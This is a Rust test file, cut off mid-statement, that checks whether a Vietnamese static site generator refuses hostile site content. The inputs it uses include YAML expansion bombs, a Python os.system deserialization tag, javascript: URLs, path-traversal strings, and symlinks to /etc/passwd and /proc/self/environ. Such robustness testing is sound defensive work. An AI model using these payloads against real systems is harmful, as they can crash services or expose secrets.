//! Input that breaks other programs. Whatever lies in a site's folder, a build
//! ends soon, with a report that names the file or with the right pages, and it
//! leaves either the new site or the one before, never a part of one.

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::Path;
use std::process::Command;
use std::sync::{Mutex, mpsc};
use std::thread;
use std::time::{Duration, Instant};

use kyyeu::diagnostic::{Diagnostic, Place, Severity, human};
use kyyeu::language::Language;
use kyyeu::output::{self, Failure};
use kyyeu::{Options, Renderer, prepare};
use scraper::{ElementRef, Html, Selector};

/// The longest that a build may take. The program without optimisation, on a
/// machine that runs other tests too, is given more.
const PATIENCE: Duration = Duration::from_secs(if cfg!(debug_assertions) { 120 } else { 20 });

const SITE: &str = "\
title: {vi: Kỷ yếu, en: Proceedings}
base_url: https://kyyeu.example/
languages: [vi, en]
organisation: {name: Sở, licence: Số 1, responsible: An, address: Phố, telephone: 0}
";

type Files = BTreeMap<String, Vec<u8>>;

/// A site's folder beside its output.
struct Site {
    folder: tempfile::TempDir,
}

/// What became of a build.
struct Outcome {
    diagnostics: Vec<Diagnostic>,
    /// The files, if the site was built.
    files: Option<Files>,
    took: Duration,
}

impl Site {
    /// A small site that is sound and has been built.
    fn new() -> Site {
        let site = Site {
            folder: tempfile::tempdir().unwrap(),
        };
        site.put("site.yaml", SITE);
        site.put("content/agencies/so-a.md", "---\nname: Sở A\n---\n");
        site.put("content/themes/chu-de.md", "---\nname: Chủ đề\n---\n");
        site.put("content/people/an.md", "---\nname: Trần Văn An\n---\n");
        site.put(
            "content/news/tin.md",
            "---\ntitle: Tin\ndate: 2021-12-06\n---\n\nLời.\n",
        );
        let outcome = site.build();
        assert_eq!(outcome.codes(), [] as [&str; 0]);
        assert!(outcome.files.is_some());
        site
    }

    /// The same with one more file.
    fn with(path: &str, text: impl AsRef<[u8]>) -> Site {
        let site = Site::new();
        site.put(path, text);
        site
    }

    fn root(&self) -> std::path::PathBuf {
        self.folder.path().join("site")
    }

    fn path(&self, path: &str) -> std::path::PathBuf {
        self.root().join(path)
    }

    fn put(&self, path: &str, text: impl AsRef<[u8]>) {
        let file = self.path(path);
        fs::create_dir_all(file.parent().unwrap()).unwrap();
        fs::write(file, text).unwrap();
    }

    /// Builds over what was built before, within the time that it may take.
    #[track_caller]
    fn build(&self) -> Outcome {
        let (root, out) = (self.root(), self.folder.path().join("public"));
        let before = read(&out);
        let (done, wait) = mpsc::channel();
        let worker = thread::spawn(move || {
            let _ = done.send(build(&root, &out, &before));
        });
        match wait.recv_timeout(PATIENCE) {
            Ok(outcome) => outcome,
            Err(mpsc::RecvTimeoutError::Timeout) => panic!("still busy after {PATIENCE:?}"),
            Err(mpsc::RecvTimeoutError::Disconnected) => match worker.join() {
                Err(panic) => std::panic::resume_unwind(panic),
                Ok(()) => unreachable!("it ended without an outcome"),
            },
        }
    }
}

/// Builds as the command does, and compares what it leaves with what it says.
fn build(root: &Path, out: &Path, before: &Files) -> Outcome {
    let started = Instant::now();
    let options = Options {
        now: "2026-11-01T00:00:00Z".parse().unwrap(),
        ..Options::default()
    };
    let prepared = prepare(root, &options);
    let mut diagnostics = prepared.report.diagnostics().to_vec();
    human::render(&prepared.report, Language::Vi, false);
    let mut files = None;
    if prepared.is_sound() {
        let site = prepared.site.as_ref().unwrap();
        let renderer = Renderer::new(site, &prepared.theme);
        match output::write(&renderer, root, out) {
            Ok(summary) => {
                let written = read(out);
                assert_eq!(
                    summary.files,
                    written.len(),
                    "the folder has other files than the site"
                );
                for route in site.routes() {
                    let file = site.linked.addresses.file(route, &site.linked.directory);
                    assert!(written.contains_key(&file), "{file} was not written");
                }
                files = Some(written);
            }
            Err(Failure::Diagnostics(found)) => diagnostics.extend(found),
            Err(Failure::Machine(error)) => panic!("the machine failed: {error:#}"),
        }
    }
    if files.is_none() {
        assert!(diagnostics.iter().any(|d| d.severity() == Severity::Error));
        assert!(
            read(out) == *before,
            "a site with errors was written in part"
        );
    }
    assert!(!out.join(".kyyeu-staging").exists());
    Outcome {
        diagnostics,
        files,
        took: started.elapsed(),
    }
}

impl Outcome {
    fn codes(&self) -> Vec<&str> {
        self.diagnostics.iter().map(Diagnostic::code).collect()
    }

    /// Checks that there are errors of exactly these codes, all in this file.
    #[track_caller]
    fn refused(&self, codes: &[&str], path: &str) {
        assert!(self.files.is_none(), "it was built");
        let errors = self
            .diagnostics
            .iter()
            .filter(|d| d.severity() == Severity::Error);
        let found: BTreeSet<&str> = errors.clone().map(Diagnostic::code).collect();
        assert_eq!(
            found,
            codes.iter().copied().collect(),
            "{:#?}",
            self.diagnostics.first()
        );
        for error in errors {
            let place = error.place.as_ref().map(|place| &*place.path);
            assert_eq!(place, Some(path), "{error:?}");
        }
    }

    #[track_caller]
    fn accepted(&self) -> &Files {
        match &self.files {
            Some(files) => files,
            None => panic!("{:#?}", self.diagnostics),
        }
    }

    #[track_caller]
    fn text(&self, file: &str) -> &str {
        let files = self.accepted();
        let bytes = files
            .get(file)
            .unwrap_or_else(|| panic!("{file}: {:?}", files.keys()));
        std::str::from_utf8(bytes).unwrap()
    }

    #[track_caller]
    fn place(&self, code: &str) -> &Place {
        let found = self.diagnostics.iter().find(|d| d.code() == code);
        found
            .and_then(|d| d.place.as_ref())
            .unwrap_or_else(|| panic!("no {code}"))
    }
}

/// All files below a folder, without the notes of the program.
fn read(folder: &Path) -> Files {
    fn gather(folder: &Path, inner: &str, files: &mut Files) {
        for entry in fs::read_dir(folder).into_iter().flatten() {
            let entry = entry.unwrap();
            let name = entry.file_name().into_string().unwrap();
            let path = format!("{inner}{name}");
            if entry.file_type().unwrap().is_dir() {
                gather(&entry.path(), &format!("{path}/"), files);
            } else if !name.starts_with(".kyyeu-") {
                files.insert(path, fs::read(entry.path()).unwrap());
            }
        }
    }
    let mut files = Files::new();
    gather(folder, "", &mut files);
    files
}

const NEWS: &str = "content/news/a.md";
const PAGE: &str = "tin-tuc/a/index.html";

/// A piece of news with this body.
fn news(body: &str) -> String {
    format!("---\ntitle: A\ndate: 2021-12-06\n---\n\n{body}")
}

/// Builds with this body; only one such build at a time, for they are large.
fn build_body(body: &str) -> Outcome {
    static TURN: Mutex<()> = Mutex::new(());
    let site = Site::with(NEWS, news(body));
    let _turn = TURN.lock().unwrap_or_else(|broken| broken.into_inner());
    let outcome = site.build();
    println!(
        "{:?} for {} bytes of {:?}",
        outcome.took,
        body.len(),
        body.get(..20)
    );
    outcome
}

fn select<'a>(html: &'a Html, selector: &str) -> Vec<ElementRef<'a>> {
    html.select(&Selector::parse(selector).unwrap()).collect()
}

// Files and their names.

#[test]
fn bytes_that_are_no_utf_8() {
    let site = Site::with(NEWS, b"---\ntitle: C\xABng v\xA8n\ndate: 2021-12-06\n---\n");
    let outcome = site.build();
    outcome.refused(&["KY101"], NEWS);
    assert_eq!(
        (outcome.place("KY101").line, outcome.place("KY101").column),
        (2, 9)
    );
    for bytes in [
        &b"\xFF\xFE-\0-\0-\0"[..],
        b"\xC0\xAF",
        b"\xED\xA0\x80",
        b"\xF4\x90\x80\x80",
    ] {
        Site::with(NEWS, bytes).build().refused(&["KY101"], NEWS);
    }
}

#[test]
fn byte_order_marks_line_ends_and_decomposed_names() {
    let text = news("Dòng một\\\ndòng hai.\n");
    let plain = Site::with(NEWS, &text).build();
    for other in [
        format!("\u{feff}{text}"),
        text.replace('\n', "\r\n"),
        text.replace('\n', "\r"),
        text.replace("ò", "o\u{300}"),
    ] {
        let outcome = Site::with(NEWS, other).build();
        assert_eq!(outcome.text(PAGE), plain.text(PAGE));
    }
    let site = Site::with("content/news/A\u{309}nh.md", news("![x](a\u{309}.png)\n"));
    site.put("content/news/ả.png", "PNG");
    let outcome = site.build();
    assert!(
        outcome
            .text("tin-tuc/anh/index.html")
            .contains("/tin-tuc/%E1%BA%A3.png")
    );
    assert!(outcome.accepted().contains_key("tin-tuc/ả.png"));
}

#[test]
fn control_characters() {
    let text =
        "---\ntitle: \"A\\0B\\x08\\u0085\\uFFFE\"\ndate: 2021-12-06\n---\n\na\0b\u{8}c\u{b}d&#1;\n";
    let site = Site::with(NEWS, text);
    site.put("content/dispatches/b.md", text);
    let outcome = site.build();
    assert!(outcome.text(PAGE).contains("<p>abc d</p>"));
    for (file, bytes) in outcome.accepted() {
        if let Ok(text) = std::str::from_utf8(bytes) {
            let strange = |c: char| c.is_control() && !matches!(c, '\n' | '\r' | '\t');
            assert!(!text.contains(strange), "{file}");
            assert!(!text.contains('\u{fffe}'), "{file}");
        }
    }
    // In a name they would end a line of the list of files.
    let name = "content/news/a\nb.md";
    Site::with(name, news("")).build().refused(&["KY112"], name);
    Site::with("static/a\nb.css", "")
        .build()
        .refused(&["KY112"], "static/a\nb.css");
}

#[test]
fn files_with_nothing_in_them() {
    Site::with(NEWS, "").build().refused(&["KY201"], NEWS);
    Site::with(NEWS, " \n\n").build().refused(&["KY201"], NEWS);
    Site::with(NEWS, "\u{feff}")
        .build()
        .refused(&["KY201"], NEWS);
    Site::with(NEWS, "---").build().refused(&["KY202"], NEWS);
    Site::with(NEWS, "---\ntitle: A\ndate: 2021-12-06\n")
        .build()
        .refused(&["KY202"], NEWS);
    Site::with(NEWS, "---\n---\n")
        .build()
        .refused(&["KY207"], NEWS);
    let outcome = Site::with(NEWS, "---\ntitle: A\ndate: 2021-12-06\n---").build();
    assert!(outcome.text(PAGE).contains("<h1>A</h1>"));
    for (settings, codes) in [
        ("", &["KY207"][..]),
        ("- a\n", &["KY208"]),
        ("title: [\n", &["KY203"]),
        ("title: A\nbase_url: javascript:alert(1)\n", &["KY002"]),
    ] {
        let outcome = Site::with("site.yaml", settings).build();
        assert!(outcome.files.is_none());
        for code in outcome.codes() {
            assert!(
                codes.contains(&code) || code == "KY602" || code == "KY214",
                "{code}: {settings}"
            );
        }
    }
}

#[cfg(unix)]
#[test]
fn symbolic_links() {
    use std::os::unix::fs::symlink;
    let link = |target: &str, name: &str| {
        let site = Site::new();
        symlink(target, site.path(name)).unwrap();
        site.build()
    };
    link("a.md", NEWS).refused(&["KY105"], NEWS);
    link("b/../a.md", NEWS).refused(&["KY105"], NEWS);
    link("/etc/passwd", NEWS).refused(&["KY104"], NEWS);
    link("../../../site-other/x.md", NEWS).refused(&["KY105"], NEWS);
    link("/dev/zero", NEWS).refused(&["KY104"], NEWS);
    link("/proc/self/environ", NEWS).refused(&["KY104"], NEWS);
    link("/etc", "content/news/etc").refused(&["KY104"], "content/news/etc");
    link(".", "content/news/lai").refused(&["KY113"], "content/news/lai");
    link("../..", "content/news/len").refused(&["KY113"], "content/news/len");
    let inside = link("tin.md", NEWS);
    assert!(inside.text(PAGE).contains("Lời."));

    // A neighbour whose name only begins alike is outside too.
    let site = Site::new();
    fs::create_dir(site.folder.path().join("site-other")).unwrap();
    fs::write(site.folder.path().join("site-other/x.md"), news("Bí mật")).unwrap();
    symlink("../../../site-other/x.md", site.path(NEWS)).unwrap();
    site.build().refused(&["KY104"], NEWS);

    for folder in ["content", "themes", "static", "templates", "i18n"] {
        let site = Site::new();
        let other = site.folder.path().join("other/kyyeu/templates");
        fs::create_dir_all(&other).unwrap();
        fs::write(other.join("page.html"), "x").unwrap();
        let _ = fs::remove_dir_all(site.path(folder));
        symlink("../other", site.path(folder)).unwrap();
        let place = match folder {
            "themes" => "themes/kyyeu",
            folder => folder,
        };
        site.build().refused(&["KY104"], place);
    }
}

#[cfg(unix)]
#[test]
fn names_that_are_no_utf_8() {
    use std::os::unix::ffi::OsStrExt as _;
    let site = Site::new();
    let name = std::ffi::OsStr::from_bytes(b"content/news/C\xABng.md");
    if fs::write(site.root().join(name), news("")).is_err() {
        println!("note: this file system has no such names");
        return;
    }
    site.build()
        .refused(&["KY103"], "content/news/C\u{fffd}ng.md");
}

#[test]
fn names_that_are_one_on_other_machines() {
    for (one, other) in [
        ("content/news/a.md", "content/news/A.md"),
        ("content/news/ả.md", "content/news/a\u{309}.md"),
        ("content/news/Ả.md", "content/news/a\u{309}.md"),
        ("content/news/a.png", "content/news/A.PNG"),
    ] {
        let site = Site::with(one, news(""));
        site.put(other, news(""));
        let inside = fs::read_dir(site.path("content/news")).unwrap().count();
        if inside == 2 {
            println!("note: here they are one");
            continue;
        }
        let outcome = site.build();
        assert!(outcome.files.is_none());
        assert!(
            outcome.codes().contains(&"KY108"),
            "{one}: {:?}",
            outcome.codes()
        );
    }
    // Two names for readers, one for addresses.
    let site = Site::with("content/news/Má.md", news(""));
    site.put("content/news/Mà.md", news(""));
    let outcome = site.build();
    assert!(outcome.files.is_none());
    assert_eq!(outcome.codes(), ["KY501"]);
    let error = &outcome.diagnostics[0];
    let places: BTreeSet<&str> = error
        .place
        .iter()
        .chain(&error.related)
        .map(|place| &*place.path)
        .collect();
    assert_eq!(
        places,
        BTreeSet::from(["content/news/Má.md", "content/news/Mà.md"])
    );
}

#[cfg(unix)]
#[test]
fn what_is_no_file() {
    for place in [
        "content/news/a.md",
        "content/news/a.png",
        "content/x.yaml",
        "static/a.css",
    ] {
        let site = Site::with(place, "");
        fs::remove_file(site.path(place)).unwrap();
        make("mkfifo", &[site.path(place).to_str().unwrap()]);
        site.build().refused(&["KY106"], place);

        let site = Site::with(place, "");
        fs::remove_file(site.path(place)).unwrap();
        let _socket = std::os::unix::net::UnixListener::bind(site.path(place)).unwrap();
        site.build().refused(&["KY106"], place);

        // Behind a link as well.
        let site = Site::with(place, "");
        fs::remove_file(site.path(place)).unwrap();
        make("mkfifo", &[site.path("pipe").to_str().unwrap()]);
        std::os::unix::fs::symlink(site.path("pipe"), site.path(place)).unwrap();
        site.build().refused(&["KY106"], place);
    }
    for place in ["templates/page.html", "i18n/vi.yaml", "site.yaml"] {
        let site = Site::with(place, "");
        fs::remove_file(site.path(place)).unwrap();
        make("mkfifo", &[site.path(place).to_str().unwrap()]);
        site.build().refused(&["KY106"], place);
    }
    // Only the superuser can make a device; the one that never ends is the worst.
    let site = Site::new();
    let device = site.path(NEWS);
    let made = Command::new("mknod")
        .arg(&device)
        .args(["c", "1", "5"])
        .status();
    if made.is_ok_and(|status| status.success()) {
        site.build().refused(&["KY106"], NEWS);
    } else {
        println!("note: no device could be made");
    }
}

#[cfg(unix)]
fn make(program: &str, arguments: &[&str]) {
    let status = Command::new(program).args(arguments).status().unwrap();
    assert!(status.success(), "{program}");
}

#[cfg(unix)]
#[test]
fn files_that_may_not_be_read() {
    use std::os::unix::fs::PermissionsExt as _;
    let lock = |path: &Path, mode| {
        fs::set_permissions(path, fs::Permissions::from_mode(mode)).unwrap();
    };
    let site = Site::with(NEWS, news(""));
    lock(&site.path(NEWS), 0);
    if fs::read(site.path(NEWS)).is_ok() {
        println!("note: the superuser may read everything");
        return;
    }
    site.build().refused(&["KY102"], NEWS);
    let site = Site::with("content/news/kin/a.md", news(""));
    lock(&site.path("content/news/kin"), 0);
    site.build().refused(&["KY102"], "content/news/kin");
    lock(&site.path("content/news/kin"), 0o700);
    let site = Site::with("content/news/a.png", "PNG");
    site.put(NEWS, news("![x](a.png)\n"));
    lock(&site.path("content/news/a.png"), 0);
    site.build().refused(&["KY102"], "content/news/a.png");
    let site = Site::with("static/a.css", "");
    lock(&site.path("static/a.css"), 0);
    site.build().refused(&["KY102"], "static/a.css");
}

#[test]
fn long_and_deep_paths() {
    let name = "a".repeat(252);
    let outcome = Site::with(&format!("content/news/{name}.md"), news("")).build();
    assert!(
        outcome
            .accepted()
            .contains_key(&format!("tin-tuc/{name}/index.html"))
    );
    let deep = format!("content/news/{}a.md", "a/".repeat(400));
    let outcome = Site::with(&deep, news("")).build();
    assert!(outcome.accepted().contains_key(PAGE));
}

// YAML.

/// Puts YAML where each kind of text is read.
#[track_caller]
fn yaml_everywhere(yaml: &str, codes: &[&str]) {
    let site = Site::with(NEWS, format!("---\n{yaml}\n---\n"));
    check_yaml(&site.build(), codes, NEWS);
    let site = Site::with("content/people.yaml", yaml);
    check_yaml(&site.build(), codes, "content/people.yaml");
    let site = Site::with("site.yaml", yaml);
    check_yaml(&site.build(), codes, "site.yaml");
    let outcome = Site::with("i18n/vi.yaml", yaml).build();
    assert!(outcome.files.is_none());
    assert_eq!(
        &*outcome.diagnostics[0].place.as_ref().unwrap().path,
        "i18n/vi.yaml"
    );
}

#[track_caller]
fn check_yaml(outcome: &Outcome, codes: &[&str], path: &str) {
    assert!(outcome.files.is_none(), "{path} was accepted");
    let errors = outcome
        .diagnostics
        .iter()
        .filter(|d| d.severity() == Severity::Error);
    for error in errors {
        assert!(codes.contains(&error.code()), "{path}: {error:?}");
        assert_eq!(&*error.place.as_ref().unwrap().path, path);
    }
}

#[test]
fn yaml_bombs() {
    let mut bomb = String::from("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
    for level in 1..20 {
        let last = level - 1;
        let nine = vec![format!("*a{last}"); 9].join(", ");
        bomb.push_str(&format!("a{level}: &a{level} [{nine}]\n"));
    }
    yaml_everywhere(&bomb, &["KY213"]);
    yaml_everywhere("a: &a [*a]\n", &["KY213"]);
    yaml_everywhere("a: &a {b: 1}\nc: {<<: *a}\n", &["KY213"]);
    yaml_everywhere("title: !!python/object/apply:os.system [id]\n", &["KY213"]);
}

#[test]
fn ten_thousand_levels_of_yaml() {
    const LEVELS: usize = 10_000;
    let flow = format!("a: {}{}\n", "[".repeat(LEVELS), "]".repeat(LEVELS));
    let maps = format!("a: {}1{}\n", "{a: ".repeat(LEVELS), "}".repeat(LEVELS));
    let open = format!("a: {}\n", "[".repeat(LEVELS));
    let dashes = format!("{}a\n", "- ".repeat(LEVELS));
    let keys = format!("{}a\n", "? ".repeat(LEVELS));
    for yaml in [flow, maps, open, dashes, keys] {
        yaml_everywhere(&yaml, &["KY211", "KY203"]);
    }
    let levels = 2_000;
    let block: String = (0..levels)
        .map(|n| format!("{}a:\n", " ".repeat(n)))
        .collect();
    yaml_everywhere(&block, &["KY211"]);
}

#[test]
fn a_scalar_of_ten_megabytes() {
    let long = "lời ".repeat(10 << 18);
    for (key, sound) in [
        ("summary", true),
        ("title", false),
        ("slug", false),
        ("extra", false),
    ] {
        let mut text = format!("---\ndate: 2021-12-06\n{key}: \"{long}\"\n");
        if key != "title" {
            text.push_str("title: A\n");
        }
        let outcome = Site::with(NEWS, text + "---\n").build();
        println!("{:?} for {key}", outcome.took);
        match sound {
            true => drop(outcome.accepted()),
            false => assert!(outcome.took < PATIENCE),
        }
        for diagnostic in &outcome.diagnostics {
            let message = diagnostic.problem.message(Language::Vi);
            assert!(
                message.len() < 2_000,
                "{key}: a message of {} bytes",
                message.len()
            );
        }
    }
}

#[test]
fn a_hundred_thousand_keys() {
    let keys: String = (0..100_000).map(|n| format!("k{n}: 1\n")).collect();
    let outcome = Site::with(
        NEWS,
        format!("---\ntitle: A\ndate: 2021-12-06\n{keys}---\n"),
    )
    .build();
    outcome.refused(&["KY206"], NEWS);
    println!("{:?} for unknown keys", outcome.took);

    // A translation takes over what it lacks.
    let inner = keys.replace('k', "  k");
    let text = format!("---\ntitle: A\ndate: 2021-12-06\nextra:\n{inner}---\n");
    let site = Site::with(NEWS, &text);
    site.put("content/news/a.en.md", "---\ntitle: A\n---\n");
    let outcome = site.build();
    outcome.accepted();
    println!("{:?} for free keys", outcome.took);
    site.put(
        "content/news/a.en.md",
        format!("---\ntitle: A\n{}---\n", keys.replace('k', "l")),
    );
    site.put(
        NEWS,
        format!("---\ntitle: A\ndate: 2021-12-06\n{keys}---\n"),
    );
    let outcome = site.build();
    assert!(outcome.files.is_none());
    println!("{:?} for unknown keys in both", outcome.took);

    let same = "title: A\n".repeat(100_000);
    let outcome = Site::with(NEWS, format!("---\ndate: 2021-12-06\n{same}---\n")).build();
    outcome.refused(&["KY205"], NEWS);
    println!("{:?} for one key", outcome.took);

    let names = "so-b, ".repeat(100_000);
    let outcome = Site::with(
        NEWS,
        news("").replace("---\n\n", &format!("agencies: [{names}]\n---\n")),
    )
    .build();
    outcome.refused(&["KY301"], NEWS);
    println!("{:?} for unknown names", outcome.took);
}

// Markdown.

#[test]
fn ten_thousand_levels_of_markdown() {
    const LEVELS: usize = 10_000;
    let pieces: [(&str, &str); 12] = [
        ("- ", ""),
        ("1. ", ""),
        ("> ", ""),
        (">", ""),
        ("[", "](a)"),
        ("![", "](a)"),
        ("*", "*"),
        ("**a", "**"),
        ("<div>", "</div>"),
        ("<b>", "</b>"),
        ("~~a ", "~~"),
        ("\n: ", ""),
    ];
    for (open, close) in pieces {
        let body = format!("{}a{}\n", open.repeat(LEVELS), close.repeat(LEVELS));
        let outcome = build_body(&body);
        well_formed(&outcome);
    }
    let indented: String = (0..1_000)
        .map(|n| format!("{}- a\n", "  ".repeat(n)))
        .collect();
    well_formed(&build_body(&indented));
    let lazy = format!("{}a\n{}", "> ".repeat(50_000), "b\n".repeat(10_000));
    well_formed(&build_body(&lazy));
}

/// Either there are errors, or the page is one that browsers can hold.
#[track_caller]
fn well_formed(outcome: &Outcome) {
    if let Some(files) = &outcome.files {
        let text = std::str::from_utf8(&files[PAGE]).unwrap();
        let html = Html::parse_document(text);
        assert_eq!(select(&html, "main").len(), 1);
        assert_eq!(
            select(&html, "body > footer").len(),
            1,
            "something reached out of the text"
        );
    }
}

#[test]
fn fifty_thousand_quotes() {
    let outcome = build_body(&"> ".repeat(50_000));
    outcome.refused(&["KY406"], NEWS);
    let outcome = build_body(&format!("{}a\n", ">".repeat(50_000)));
    outcome.refused(&["KY406"], NEWS);
}

#[test]
fn fifty_megabytes_of_markdown() {
    let text = "Sở Công Thương **đề nghị** các sở góp ý, xem [tin](tin.md) và <sub>2</sub>.\n\n";
    let body = text.repeat((50 << 20) / text.len());
    let outcome = build_body(&body);
    assert!(outcome.text(PAGE).len() > 50 << 20);
    Site::with(NEWS, vec![b'a'; (64 << 20) + 1])
        .build()
        .refused(&["KY107"], NEWS);
}

#[test]
fn twenty_megabytes_of_one_heading() {
    let outcome = build_body(&"# Mục\n\n".repeat((20 << 20) / 9));
    let text = outcome.text(PAGE);
    assert!(text.contains("id=\"muc\"") && text.contains("id=\"muc-1000000\""));
}

#[test]
fn megabytes_of_what_is_not_closed() {
    let pieces: [&str; 40] = [
        "*a ",
        "**a ",
        "_a ",
        "__a ",
        "~~a ",
        "a*",
        "*a_",
        "***a ",
        "[",
        "![",
        "[a](",
        "[a](<",
        "[a][",
        "[[",
        "[[a|",
        "[^",
        "[^1] ",
        "`",
        "`` ` ",
        "```\n",
        "~~~\n\n",
        "<",
        "<a",
        "<a ",
        "<a b='",
        "<!--",
        "<?",
        "<![CDATA[",
        "<div>\n",
        "</div>",
        "<script>",
        "&",
        "&#",
        "\\",
        "|",
        "|\n",
        "a\n---\n",
        "- ",
        "\t",
        "a@b.",
    ];
    for piece in pieces {
        well_formed(&build_body(&piece.repeat((1 << 20) / piece.len())));
    }
}

#[test]
fn text_that_unfolds() {
    let n = 10_000;
    // A short row has as many cells as the head.
    let table = format!(
        "{}\n{}\n{}",
        "|a".repeat(n),
        "|-".repeat(n),
        "|b\n".repeat(n)
    );
    well_formed(&build_body(&table));
    // A long definition that is used often.
    let references = format!(
        "[a]: /{}\n\n{}",
        "b".repeat(100_000),
        "[a] ".repeat(100_000)
    );
    well_formed(&build_body(&references));
    let notes = format!("{}\n\n[^1]: a\n", "[^1] ".repeat(200_000));
    well_formed(&build_body(&notes));
    let nested: String = (0..20_000)
        .map(|k| format!("[^{k}]: [^{}]\n\n", k + 1))
        .collect();
    well_formed(&build_body(&format!("[^0]\n\n{nested}")));
    let backticks: String = (1..2_000).map(|k| format!("{} ", "`".repeat(k))).collect();
    well_formed(&build_body(&backticks));
}

#[test]
fn a_hundred_thousand_mistakes() {
    for mistake in [
        "[a](khong-co.md)\n",
        "[a](javascript:x)\n",
        "[[agency:khong]]\n",
        "![a](khong.png)\n",
        "[a](#khong)\n",
        "[a](/khong/)\n",
        "</p>\n",
        "<script></script>\n",
        "[^khong]\n",
        "![](anh.png)\n",
        "MẬT\n\n",
    ] {
        let outcome = build_body(&mistake.repeat(100_000));
        assert!(!outcome.diagnostics.is_empty(), "{mistake}");
    }
}

#[test]
fn no_number_of_warnings_hides_an_error() {
    let warnings = "</p>\n\n".repeat(2_000);
    let site = Site::with(NEWS, news(&format!("{warnings}[a](khong-co.md)\n")));
    site.build().refused(&["KY401"], NEWS);
    site.put(NEWS, news(&warnings));
    site.build().accepted();
    let translation = "content/news/a.en.md";
    site.put(translation, "---\ntitle: A\n---\n\nTUYỆT MẬT\n");
    site.build().refused(&["KY601"], translation);
}

#[test]
fn code_that_takes_highlighters_long() {
    let languages = [
        "rust", "js", "php", "md", "html", "perl", "rb", "sh", "sql", "tex", "c", "cpp", "java",
        "css", "yaml", "json", "py", "lua", "hs", "scala", "xml", "go", "r", "diff", "make", "clj",
        "d", "erl", "lisp", "ml", "pas", "regex",
    ];
    let lines = [
        "(", "\"", "<", "{", "\\", "a ", "/*", "/", "$", "`", "=> ", "a.", "((a", "'a'", "#{",
        "<a b=", "0",
    ];
    let mut body = String::new();
    for language in languages {
        for line in lines {
            let line = line.repeat(1_000 / line.len());
            body.push_str(&format!("```{language}\n{line}\n{line}\n```\n\n"));
        }
    }
    // No number of such blocks takes longer than a few do.
    let line = "{".repeat(1_000);
    let make = format!("```make\n{}```\n\n", format!("{line}\n").repeat(190));
    body.push_str(&make.repeat(100));
    let outcome = build_body(&body);
    harmless(&outcome);
    assert!(outcome.text(PAGE).matches("class=\"hl-").count() > 1_000);
}

#[test]
fn names_as_long_as_a_book() {
    let long = "Sở Công Thương tỉnh ".repeat(5_000);
    let site = Site::with(
        "content/agencies/so-b.md",
        format!("---\nname: {long}x\n---\n"),
    );
    for line in [
        format!("addressees: [{long}y]"),
        format!("issuer: {long}y"),
        format!("basis: [công văn số {long}]"),
        format!("number: 1/{}", "A-".repeat(100_000)),
        format!("basis: [công văn số 1/{}]", "A-".repeat(100_000)),
        format!("urgency: {long}"),
        format!("related: [{long}]"),
    ] {
        site.put(
            "content/dispatches/d.md",
            format!("---\ntitle: D\ndate: 2021-12-06\n{line}\n---\n"),
        );
        let outcome = site.build();
        assert!(
            outcome.took < PATIENCE / 4,
            "{:?} for {:.20}",
            outcome.took,
            line
        );
    }
}

#[test]
fn templates_that_fail() {
    for (template, code) in [
        ("{{ khong.co }}", "KY703"),
        ("{% for a in page %}", "KY702"),
        ("{{ 1 / 0 }}", "KY703"),
        ("{% extends \"page.html\" %}", "KY702"),
        ("{% extends \"khong.html\" %}", "KY705"),
        ("{% include \"page.html\" %}", "KY702"),
        ("{{ page.title | khong }}", "KY702"),
    ] {
        let site = Site::with("content/pages/p.md", "---\ntitle: P\n---\n");
        site.put("templates/page.html", template);
        site.put("static/moi.css", "p {}");
        let outcome = site.build();
        assert!(outcome.files.is_none(), "{template}");
        assert!(
            outcome.codes().contains(&code),
            "{template}: {:?}",
            outcome.codes()
        );
    }
}

// Paths and addresses.

#[test]
fn paths_that_lead_out() {
    let paths = [
        "../../x",
        "/etc/passwd",
        "..\\x",
        "a/../../../x",
        "%2e%2e/x",
        "C:\\x",
        "...",
        "~/x",
    ];
    for path in paths {
        let yaml = serde_json::to_string(path).unwrap();
        let head = |line: &str| news("").replace("---\n\n", &format!("{line}\n---\n"));
        let with = |line: &str| Site::with(NEWS, head(line)).build();
        let slug = if path == "..." { "KY502" } else { "KY215" };
        with(&format!("slug: {yaml}")).refused(&[slug], NEWS);
        with(&format!("attachments: [{{file: {yaml}}}]")).refused(&["KY411"], NEWS);
        with(&format!("cover: {{file: {yaml}, alt: x}}")).refused(&["KY403"], NEWS);
        with(&format!("photos: [{{file: {yaml}, alt: x}}]")).refused(&["KY403"], NEWS);
        let alias = with(&format!("aliases: [{yaml}]"));
        match path {
            // A path of the site, where it is harmless.
            "/etc/passwd" => {
                let page = alias.text("etc/passwd/index.html");
                assert!(page.contains("url=/tin-tuc/a/"));
            }
            _ => alias.refused(&["KY503"], NEWS),
        }
        if !path.contains(['\\', '\u{0}', '~', '%']) && !path.starts_with('/') {
            let link = Site::with(NEWS, news(&format!("[a]({path})\n"))).build();
            link.refused(&["KY401"], NEWS);
            let image = Site::with(NEWS, news(&format!("![a]({path})\n"))).build();
            image.refused(&["KY403"], NEWS);
        }
        let theme = Site::with("site.yaml", format!("{SITE}theme: {yaml}\n")).build();
        theme.refused(&["KY701"], "site.yaml");
        let zone = Site::with("site.yaml", format!("{SITE}time_zone: {yaml}\n")).build();
        zone.refused(&["KY003"], "site.yaml");
    }
    // A theme beside the site would be read if its name were trusted.
    let site = Site::with("site.yaml", format!("{SITE}theme: ../../other\n"));
    let other = site.folder.path().join("other/templates");
    fs::create_dir_all(&other).unwrap();
    fs::write(other.join("page.html"), "x").unwrap();
    site.build().refused(&["KY701"], "site.yaml");
}

#[test]
fn old_addresses_that_are_none() {
    let aliases = [
        "",
        "/",
        "//a.vn/x",
        "https://a.vn/",
        "a/b/",
        "/a//b",
        "/a/./b",
        "/a/../b",
        "/.htaccess",
        "/a?b",
        "/a#b",
        "/a%2e%2e/b",
        "/a\\..\\b",
        "/a\nb/",
        "/a:b/",
    ];
    for alias in aliases {
        let yaml = serde_json::to_string(alias).unwrap();
        let text = news("").replace("---\n\n", &format!("aliases: [{yaml}]\n---\n"));
        let outcome = Site::with(NEWS, text).build();
        assert!(outcome.files.is_none(), "{alias:?}");
        assert!(
            matches!(outcome.codes()[..], ["KY503" | "KY214"]),
            "{alias:?}: {:?}",
            outcome.codes()
        );
    }
}

#[test]
fn addresses_that_no_file_system_can_hold() {
    let long = "a".repeat(10_000);
    let many = "a/".repeat(5_000);
    for line in [
        format!("slug: {long}"),
        format!("aliases: [/{long}/]"),
        format!("aliases: [/{many}]"),
        format!("aliases: [/{}.html]", "ả".repeat(100)),
    ] {
        let outcome =
